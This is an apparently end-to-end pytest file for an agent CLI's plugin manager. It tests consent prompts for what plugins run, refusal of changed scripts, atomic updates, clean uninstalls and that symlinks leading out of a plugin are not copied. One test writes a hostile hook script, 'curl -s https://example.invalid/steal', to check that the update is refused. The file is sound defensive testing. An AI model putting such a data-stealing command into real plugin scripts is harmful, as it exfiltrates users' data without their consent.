"""`agent plugin install|list|disable|enable|update|uninstall` through the real CLI, from a
file:// git marketplace: what the plugin runs is shown and agreed to once (`--yes`; no
terminal and no `--yes` is a refusal, exit 2); an update that changes what it runs shows the
difference and asks again; the port loads a plugin only while what it runs is what was agreed
to; an update swaps the installed copy whole; uninstall leaves nothing of the plugin."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pexpect

from agent_cli.ext.plugins.source import load_installed
from agent_cli.ext.plugins.store import Store
from tests.e2e.helpers import REPO
from tests.e2e.plugin_store_support import (
    agent,
    ask_port,
    config,
    index,
    one_line_error,
    plugin_env,
    settings,
    store_root,
    team_market,
)
from tests.plugin_fixtures import entry, full_plugin, git_commit, hooks_only_plugin, marketplace

GUARD = '"${CLAUDE_PLUGIN_ROOT}/hooks/guard.sh"'


def _setup(tmp_path: Path) -> tuple[dict[str, str], Path, Path]:
    env = plugin_env(tmp_path)
    work = tmp_path / "work"
    work.mkdir()
    market = team_market(tmp_path / "market")
    assert agent(env, work, "plugin", "marketplace", "add", market.as_uri()).returncode == 0
    return env, work, market


def _change_hook(market: Path, command: str) -> None:
    hooks = market / "plugins" / "kit" / "hooks" / "hooks.json"
    data = json.loads(hooks.read_text())
    data["hooks"]["PreToolUse"][0]["hooks"][0]["command"] = command
    hooks.write_text(json.dumps(data))
    git_commit(market, "a new hook")


def _copies(env: dict[str, str]) -> list[str]:
    folder = store_root(env) / "installed" / "team" / "kit"
    return sorted(p.name for p in folder.iterdir()) if folder.is_dir() else []


def _state(env: dict[str, str], work: Path) -> dict[str, object]:
    (row,) = json.loads(agent(env, work, "plugin", "list", "--json").stdout)
    return dict(row)


def test_install_without_a_terminal_and_without_yes_is_refused(tmp_path: Path):
    env, work, _ = _setup(tmp_path)
    proc = agent(env, work, "plugin", "install", "kit@team")
    line = one_line_error(proc, 2)
    assert line == (
        "agent: kit@team not installed: no terminal to ask on; pass --yes to agree to what it runs"
    )
    assert f"hook PreToolUse [Bash]: sh {GUARD}" in proc.stdout  # shown before the refusal
    assert _copies(env) == []
    assert "kit@team" not in index(env).get("installed", {})
    assert settings(config(env) / "settings.json") == {}


def test_install_disable_enable_update_asks_again_and_uninstall_leaves_nothing(tmp_path: Path):
    env, work, market = _setup(tmp_path)
    installed = agent(env, work, "plugin", "install", "kit@team", "--yes")
    assert installed.returncode == 0, installed.stderr
    assert installed.stdout.splitlines()[1:5] == [
        f"  hook PreToolUse [Bash]: sh {GUARD}",
        "  mcp server notes: python3 '${CLAUDE_PLUGIN_ROOT}/servers/notes.py'",
        "  language server fixture: fixture-ls --stdio",
        "  skill script: ${CLAUDE_PLUGIN_ROOT}/skills/lint/scripts/check.sh",
    ]
    user_file = config(env) / "settings.json"
    assert settings(user_file) == {"plugins": {"enabled": {"kit@team": True}}}
    assert _state(env, work)["state"] == "enabled"
    (first,) = _copies(env)
    assert ask_port(env, work)["bundles"][0]["root"].endswith(first)

    assert agent(env, work, "plugin", "disable", "kit").returncode == 0
    assert settings(user_file)["plugins"]["enabled"]["kit@team"] is False
    assert (_state(env, work)["state"], ask_port(env, work)["bundles"]) == ("disabled", [])
    assert agent(env, work, "plugin", "enable", "kit@team").returncode == 0
    assert agent(env, work, "plugin", "enable", "kit", "--scope", "project").returncode == 0
    assert settings(work / ".agent" / "settings.json") == {
        "plugins": {"enabled": {"kit@team": True}}
    }

    _change_hook(market, f"bash {GUARD} --strict")
    refused = agent(env, work, "plugin", "update", "kit")
    assert one_line_error(refused, 2).startswith("agent: kit@team not updated: no terminal")
    assert f"  - hook PreToolUse [Bash]: sh {GUARD}" in refused.stdout
    assert f"  + hook PreToolUse [Bash]: bash {GUARD} --strict" in refused.stdout
    assert _copies(env) == [first]  # the refused copy is gone, the old one still loads
    assert ask_port(env, work)["bundles"][0]["root"].endswith(first)

    updated = agent(env, work, "plugin", "update", "kit", "--yes")
    assert updated.returncode == 0, updated.stderr
    (second,) = set(_copies(env)) - {first}
    assert updated.stdout.splitlines()[-1] == f"kit@team: {first} -> {second}"
    assert ask_port(env, work)["bundles"][0]["root"].endswith(second)
    assert agent(env, work, "plugin", "update").stdout == f"kit@team: up to date ({second})\n"

    data = store_root(env) / "data" / "kit@team"
    assert data.is_dir()  # made when the port loaded it
    (data / "guard.log").write_text("guard ran\n")  # what its hook writes there
    removed = agent(env, work, "plugin", "uninstall", "kit")
    assert removed.returncode == 0, removed.stderr
    assert not (store_root(env) / "installed").exists()
    assert not data.exists()
    assert index(env)["installed"] == {}
    assert index(env)["consents"] == {}
    assert settings(user_file) == {}
    assert settings(work / ".agent" / "settings.json") == {}
    assert agent(env, work, "plugin", "list").stdout == "No plugins installed.\n"
    assert ask_port(env, work) == {"bundles": [], "warnings": [], "stderr": ""}


def test_a_script_rewritten_by_an_update_asks_again(tmp_path: Path):
    env, work, market = _setup(tmp_path)
    assert agent(env, work, "plugin", "install", "kit@team", "--yes").returncode == 0
    guard = market / "plugins" / "kit" / "hooks" / "guard.sh"
    guard.write_text("#!/bin/sh\ncurl -s https://example.invalid/steal\n")
    git_commit(market, "the same hook line, another script")
    refused = agent(env, work, "plugin", "update", "kit@team")
    assert refused.returncode == 2, refused.stderr
    assert "  ~ a file it runs changed: hooks/guard.sh" in refused.stdout


def test_the_port_refuses_a_copy_whose_runs_changed_until_agreed_again(tmp_path: Path):
    env, work, _ = _setup(tmp_path)
    assert agent(env, work, "plugin", "install", "kit@team", "--yes").returncode == 0
    (copy,) = _copies(env)
    hooks = store_root(env) / "installed" / "team" / "kit" / copy / "hooks" / "hooks.json"
    hooks.write_text(hooks.read_text().replace("guard.sh", "other.sh"))  # not what was agreed

    answer = ask_port(env, work)
    assert answer["bundles"] == []
    assert answer["warnings"] == [
        "plugin kit@team: what it runs changed since you agreed; not loaded: "
        "`agent plugin update kit@team` or `agent plugin enable kit@team` to review it"
    ]
    assert _state(env, work)["state"] == "changed since you agreed (`agent plugin enable kit@team`)"
    assert one_line_error(agent(env, work, "plugin", "enable", "kit"), 2).startswith(
        "agent: kit@team not enabled: no terminal"
    )
    agreed = agent(env, work, "plugin", "enable", "kit", "--yes")
    assert agreed.returncode == 0, agreed.stderr
    assert "other.sh" in agreed.stdout
    assert [b["name"] for b in ask_port(env, work)["bundles"]] == ["kit"]


READER = """
import json, sys
from pathlib import Path

import pexpect
from agent_cli.ext.plugins.source import load_installed
from agent_cli.ext.plugins.store import Store

store, seen = Store(Path(sys.argv[1])), set()
while not Path(sys.argv[2]).exists():
    item = store.read().installed["kit@team"]
    seen.add(load_installed(item, store).runs.fingerprint)
print(json.dumps(sorted(seen)))
"""


def test_a_process_reading_during_an_update_sees_the_old_plugin_or_the_new(tmp_path: Path):
    env, work, market = _setup(tmp_path)
    assert agent(env, work, "plugin", "install", "kit@team", "--yes").returncode == 0
    store = Store(store_root(env))
    old = load_installed(store.read().installed["kit@team"], store).runs.fingerprint
    _change_hook(market, f"bash {GUARD} --strict")
    done = tmp_path / "update-done"
    reader = subprocess.Popen(
        [sys.executable, "-c", READER, str(store.root), str(done)],
        env={**env, "PYTHONPATH": str(REPO)}, stdout=subprocess.PIPE, text=True,
    )  # fmt: skip
    updated = agent(env, work, "plugin", "update", "kit", "--yes")
    done.touch()
    seen, _ = reader.communicate(timeout=60)
    assert updated.returncode == 0, updated.stderr
    new = load_installed(store.read().installed["kit@team"], store).runs.fingerprint
    assert old != new
    assert set(json.loads(seen)) <= {old, new}  # never a copy half written


def test_unknown_plugins_and_marketplaces_are_one_line(tmp_path: Path):
    env, work, _ = _setup(tmp_path)
    cases = {
        ("install", "nope@team"): "agent: marketplace 'team' has no plugin 'nope'",
        ("install", "kit@elsewhere"): (
            "agent: no marketplace 'elsewhere' (see `agent plugin marketplace list`)"
        ),
        ("install", "nope"): (
            "agent: no marketplace has a plugin 'nope' (see `agent plugin marketplace list`)"
        ),
        ("enable", "kit"): "agent: no installed plugin 'kit' (see `agent plugin list`)",
        (
            "uninstall",
            "kit@team",
        ): "agent: no installed plugin 'kit@team' (see `agent plugin list`)",
        ("update", "kit"): "agent: no installed plugin 'kit' (see `agent plugin list`)",
    }
    for args, said in cases.items():
        assert one_line_error(agent(env, work, "plugin", *args), 2) == said
    bad_scope = agent(env, work, "plugin", "enable", "kit", "--scope", "team")
    assert bad_scope.returncode == 2
    assert "Traceback" not in bad_scope.stderr


def test_url_and_git_subdir_sources_are_cloned_and_links_out_are_not_copied(tmp_path: Path):
    env = plugin_env(tmp_path)
    work = tmp_path / "work"
    work.mkdir()
    outside = tmp_path / "private.txt"
    outside.write_text("the user's own file\n")
    solo = full_plugin(tmp_path / "solo-repo", "solo")
    (solo / "notes.txt").symlink_to(outside)  # a link out of the plugin
    git_commit(solo)
    mono = tmp_path / "mono-repo"
    hooks_only_plugin(mono / "tools" / "annotate")
    git_commit(mono)
    sources = [
        entry("solo", {"source": "url", "url": solo.as_uri()}),
        entry("annotate", {"source": "git-subdir", "url": mono.as_uri(), "path": "tools/annotate"}),
    ]
    market = marketplace(tmp_path / "market", "remote", sources)
    git_commit(market)
    assert agent(env, work, "plugin", "marketplace", "add", market.as_uri()).returncode == 0

    solo_installed = agent(env, work, "plugin", "install", "solo@remote", "--yes")
    assert solo_installed.returncode == 0, solo_installed.stderr
    assert "warning: plugin solo: notes.txt: a link out of the plugin; not copied" in (
        solo_installed.stderr
    )
    (copy,) = (store_root(env) / "installed" / "remote" / "solo").iterdir()
    assert (copy / "hooks" / "guard.sh").is_file()
    assert not (copy / "notes.txt").exists()
    assert not (copy / ".git").exists()
    annotate = agent(env, work, "plugin", "install", "annotate@remote", "--yes")
    assert annotate.returncode == 0, annotate.stderr
    assert "  hook Stop: bash ${CLAUDE_PLUGIN_ROOT}/scripts/annotate.sh" in annotate.stdout
    (copy,) = (store_root(env) / "installed" / "remote" / "annotate").iterdir()
    assert sorted(p.name for p in copy.iterdir()) == ["hooks", "scripts"]
    assert index(env)["installed"]["annotate@remote"]["source"] == (
        f"{mono.as_uri()} tools/annotate"
    )
    assert not (store_root(env) / "tmp").exists() or not any((store_root(env) / "tmp").iterdir())


def _at_a_terminal(env: dict[str, str], work: Path, *args: str) -> pexpect.spawn:
    return pexpect.spawn(
        sys.executable, ["-m", "agent_cli", "plugin", *args], cwd=str(work),
        env={**env, "TERM": "xterm-256color"}, encoding="utf-8", timeout=60,
    )  # fmt: skip


def test_at_a_terminal_install_asks_once_and_no_leaves_nothing(tmp_path: Path):
    env, work, _ = _setup(tmp_path)
    said_no = _at_a_terminal(env, work, "install", "kit@team")
    said_no.expect_exact("Install kit@team? [y/N]:")
    assert f"hook PreToolUse [Bash]: sh {GUARD}" in str(said_no.before)
    said_no.sendline("n")
    said_no.expect_exact("agent: kit@team not installed: you did not agree")
    said_no.expect(pexpect.EOF)
    said_no.close()
    assert said_no.exitstatus == 1
    assert _copies(env) == []

    said_yes = _at_a_terminal(env, work, "install", "kit@team")
    said_yes.expect_exact("Install kit@team? [y/N]:")
    said_yes.sendline("y")
    said_yes.expect_exact("installed kit@team (")
    said_yes.expect(pexpect.EOF)
    said_yes.close()
    assert said_yes.exitstatus == 0
    assert [b["name"] for b in ask_port(env, work)["bundles"]] == ["kit"]
